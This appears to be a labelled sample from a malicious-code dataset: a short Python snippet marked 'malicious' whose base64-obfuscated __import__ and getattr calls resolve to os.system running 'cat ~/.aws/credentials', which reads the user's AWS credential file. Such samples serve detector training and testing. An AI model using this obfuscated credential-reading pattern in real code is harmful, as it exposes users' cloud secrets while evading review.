# label: malicious; obfuscated: getattr,__import__,base64
import base64
os_mod = __import__(base64.b64decode("b3M=").decode())
getattr(os_mod, base64.b64decode("c3lzdGVt").decode())("cat ~/.aws/credentials")
